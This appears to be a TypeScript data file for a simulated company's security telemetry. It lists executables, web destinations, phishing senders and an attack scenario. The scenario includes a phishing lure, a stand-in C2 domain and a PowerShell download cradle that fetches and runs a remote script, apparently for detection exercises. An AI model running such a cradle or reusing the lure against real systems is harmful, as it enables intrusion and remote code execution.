/**
 * What runs and where people go in the simulated company: executables (with stable hashes and version info),
 * web destinations, mail senders, sign-in apps. Plain data; `background.ts` draws from it.
 */
import { hash32, hexOf } from './prng.js';

export interface Executable {
  readonly fileName: string;
  readonly folderPath: string;
  readonly company: string;
  readonly product: string;
  readonly description: string;
  readonly originalFileName: string;
  readonly size: number;
  readonly sha1: string;
  readonly sha256: string;
  readonly md5: string;
}

function exe(fileName: string, dir: string, company: string, product: string, description: string): Executable {
  return {
    fileName,
    folderPath: `${dir}\\${fileName}`,
    company,
    product,
    description,
    originalFileName: fileName,
    size: 40_000 + (hash32(fileName) % 4_000_000),
    sha1: hexOf(`sha1:${dir}\\${fileName}`, 40),
    sha256: hexOf(`sha256:${dir}\\${fileName}`, 64),
    md5: hexOf(`md5:${dir}\\${fileName}`, 32),
  };
}

const MS = 'Microsoft Corporation';
const WIN = 'Microsoft® Windows® Operating System';
const SYS32 = 'C:\\Windows\\System32';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';

export const EXE = {
  explorer: exe('explorer.exe', 'C:\\Windows', MS, WIN, 'Windows Explorer'),
  services: exe('services.exe', SYS32, MS, WIN, 'Services and Controller app'),
  svchost: exe('svchost.exe', SYS32, MS, WIN, 'Host Process for Windows Services'),
  taskhostw: exe('taskhostw.exe', SYS32, MS, WIN, 'Host Process for Windows Tasks'),
  conhost: exe('conhost.exe', SYS32, MS, WIN, 'Console Window Host'),
  cmd: exe('cmd.exe', SYS32, MS, WIN, 'Windows Command Processor'),
  powershell: exe('powershell.exe', `${SYS32}\\WindowsPowerShell\\v1.0`, MS, WIN, 'Windows PowerShell'),
  rundll32: exe('rundll32.exe', SYS32, MS, WIN, 'Windows host process (Rundll32)'),
  lsass: exe('lsass.exe', SYS32, MS, WIN, 'Local Security Authority Process'),
  wmiprvse: exe('WmiPrvSE.exe', `${SYS32}\\wbem`, MS, WIN, 'WMI Provider Host'),
  searchIndexer: exe('SearchIndexer.exe', SYS32, MS, WIN, 'Microsoft Windows Search Indexer'),
  msMpEng: exe(
    'MsMpEng.exe',
    'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0',
    MS,
    'Microsoft Malware Protection',
    'Antimalware Service Executable',
  ),
  msSense: exe(
    'MsSense.exe',
    'C:\\Program Files\\Windows Defender Advanced Threat Protection',
    MS,
    WIN,
    'Windows Defender Advanced Threat Protection Service Executable',
  ),
  chrome: exe(
    'chrome.exe',
    'C:\\Program Files\\Google\\Chrome\\Application',
    'Google LLC',
    'Google Chrome',
    'Google Chrome',
  ),
  msedge: exe(
    'msedge.exe',
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
    MS,
    'Microsoft Edge',
    'Microsoft Edge',
  ),
  outlook: exe('OUTLOOK.EXE', OFFICE, MS, 'Microsoft Outlook', 'Microsoft Outlook'),
  excel: exe('EXCEL.EXE', OFFICE, MS, 'Microsoft Office', 'Microsoft Excel'),
  winword: exe('WINWORD.EXE', OFFICE, MS, 'Microsoft Office', 'Microsoft Word'),
  powerpnt: exe('POWERPNT.EXE', OFFICE, MS, 'Microsoft Office', 'Microsoft PowerPoint'),
  teams: exe(
    'ms-teams.exe',
    'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe',
    MS,
    'Microsoft Teams',
    'Microsoft Teams',
  ),
  oneDrive: exe(
    'OneDrive.exe',
    'C:\\Program Files\\Microsoft OneDrive',
    MS,
    'Microsoft OneDrive',
    'Microsoft OneDrive',
  ),
  git: exe('git.exe', 'C:\\Program Files\\Git\\cmd', 'The Git Development Community', 'Git', 'Git for Windows'),
  code: exe('Code.exe', 'C:\\Program Files\\Microsoft VS Code', MS, 'Visual Studio Code', 'Visual Studio Code'),
  sqlservr: exe(
    'sqlservr.exe',
    'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn',
    MS,
    'Microsoft SQL Server',
    'SQL Server Windows NT - 64 Bit',
  ),
  wsmprovhost: exe('wsmprovhost.exe', SYS32, MS, WIN, 'Host process for WinRM plug-ins'),
  backup: exe('backup.exe', 'C:\\Program Files\\Contoso\\Backup', 'Contoso Ltd', 'Contoso Backup', 'Backup agent'),
  // Attack tooling (stories only).
  procdump: {
    ...exe(
      'procdump64.exe',
      'C:\\Users\\Public',
      'Sysinternals - www.sysinternals.com',
      'ProcDump',
      'Sysinternals process dump utility',
    ),
    originalFileName: 'procdump',
  },
  psexec: exe(
    'PsExec64.exe',
    'C:\\Users\\Public',
    'Sysinternals - www.sysinternals.com',
    'Sysinternals PsExec',
    'Execute processes remotely',
  ),
  psexesvc: exe(
    'PSEXESVC.exe',
    'C:\\Windows',
    'Sysinternals - www.sysinternals.com',
    'Sysinternals PsExec',
    'PsExec Service',
  ),
} as const;

/** Web destinations: domain, a stable public IP, who goes there. */
export interface Destination {
  readonly domain: string;
  readonly ip: string;
  readonly departments: readonly string[] | null;
  readonly weight: number;
}

export const WEB: readonly Destination[] = [
  { domain: 'login.microsoftonline.com', ip: '20.190.151.68', departments: null, weight: 10 },
  { domain: 'outlook.office365.com', ip: '52.97.146.162', departments: null, weight: 14 },
  { domain: 'teams.microsoft.com', ip: '52.113.194.132', departments: null, weight: 12 },
  { domain: 'www.office.com', ip: '13.107.6.156', departments: null, weight: 6 },
  { domain: 'contoso.sharepoint.com', ip: '13.107.136.10', departments: null, weight: 10 },
  { domain: 'www.google.com', ip: '142.250.72.196', departments: null, weight: 8 },
  { domain: 'www.linkedin.com', ip: '13.107.42.14', departments: ['hr', 'sal', 'mkt'], weight: 4 },
  { domain: 'github.com', ip: '140.82.112.3', departments: ['eng', 'it'], weight: 9 },
  { domain: 'registry.npmjs.org', ip: '104.16.24.35', departments: ['eng'], weight: 5 },
  { domain: 'contoso.my.salesforce.com', ip: '136.146.48.67', departments: ['sal', 'mkt'], weight: 9 },
  { domain: 'www.bloomberg.com', ip: '151.101.2.49', departments: ['fin'], weight: 4 },
  { domain: 'www.wikipedia.org', ip: '208.80.154.224', departments: null, weight: 2 },
];

export const INTERNAL_SERVICES: readonly { server: string; port: number; weight: number }[] = [
  { server: 'SRV-FILE-01', port: 445, weight: 5 },
  { server: 'SRV-DC-01', port: 389, weight: 3 },
  { server: 'SRV-DC-02', port: 88, weight: 2 },
  { server: 'SRV-SQL-01', port: 1433, weight: 1 },
  { server: 'SRV-APP-01', port: 443, weight: 2 },
];

export const SIGNIN_APPS: readonly (readonly [string, string, number])[] = [
  ['Microsoft Teams', '1fec8e78-bce4-4aaf-ab1b-5451cc387264', 8],
  ['Office 365 Exchange Online', '00000002-0000-0ff1-ce00-000000000000', 7],
  ['OfficeHome', '4765445b-32c6-49b0-83e6-1d93765276ca', 5],
  ['Microsoft Edge', 'ecd6b820-32c2-49b6-98a6-444530e5a77a', 4],
  ['Salesforce', '8f8c1c5d-0e37-4b1a-9a0f-1d6d8c9a2f10', 2],
  ['Azure Portal', 'c44b4083-3bb0-49c1-b47d-974e53cbdf3c', 1],
];

export const NEWSLETTERS: readonly { from: string; domain: string; ip: string; subjects: readonly string[] }[] = [
  {
    from: 'news@updates.linkedin.com',
    domain: 'updates.linkedin.com',
    ip: '108.174.0.215',
    subjects: ['Your weekly network update', 'You appeared in 12 searches this week'],
  },
  {
    from: 'noreply@github.com',
    domain: 'github.com',
    ip: '192.30.252.201',
    subjects: ['[contoso/platform] Pull request review requested', '[contoso/api] CI run failed on main'],
  },
  {
    from: 'info@mail.salesforce.com',
    domain: 'mail.salesforce.com',
    ip: '136.147.176.12',
    subjects: ['Your quarterly pipeline report is ready', 'Salesforce release notes: Winter release'],
  },
];

export const INTERNAL_SUBJECTS = [
  'Q3 budget review',
  'Team offsite agenda',
  'Re: customer escalation',
  'Updated org chart',
  'Weekly status',
  'Lunch on Friday?',
  'Contract draft for review',
  'Re: onboarding checklist',
  'Invoice approval needed',
  'Sprint planning notes',
];

/** Phishing that the mail filter blocks (background noise: never delivered, never clicked). */
export const BLOCKED_PHISH: readonly { from: string; domain: string; ip: string; subject: string }[] = [
  {
    from: 'docs@secure-docs-share.net',
    domain: 'secure-docs-share.net',
    ip: '198.51.100.140',
    subject: 'You have received a secure document',
  },
  {
    from: 'billing@invoice-payments.biz',
    domain: 'invoice-payments.biz',
    ip: '198.51.100.141',
    subject: 'Overdue invoice #48213 - payment required',
  },
];

/** Internet scanners the firewall denies (background). */
export const SCAN_PORTS = [22, 23, 445, 3389, 5900, 8080];

// ─── attack infrastructure (documentation ranges: no real hosts) ───

export const ATTACK = {
  phishSender: 'benefits@contoso-hr-portal.com',
  phishDomain: 'contoso-hr-portal.com',
  phishIp: '198.51.100.77',
  phishSubject: 'Action required: confirm your 2026 benefits enrollment',
  docName: 'Benefits_Enrollment_2026.docm',
  c2Domain: 'msft-telemetry-cdn.com',
  c2Ip: '198.51.100.23',
  payloadUrl: 'https://msft-telemetry-cdn.com/static/update.ps1',
  /** UTF-16LE base64 of the download cradle, as PowerShell's -EncodedCommand takes it. */
  cradle: "IEX (New-Object Net.WebClient).DownloadString('https://msft-telemetry-cdn.com/static/update.ps1')",
  travel: [
    { ip: '198.51.100.145', country: 'RU', city: 'Moscow', state: 'Moscow', lat: 55.7558, lon: 37.6173 },
    { ip: '198.51.100.201', country: 'NG', city: 'Lagos', state: 'Lagos', lat: 6.5244, lon: 3.3792 },
    { ip: '198.51.100.88', country: 'BR', city: 'São Paulo', state: 'São Paulo', lat: -23.5505, lon: -46.6333 },
  ],
} as const;

export function encodedCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}
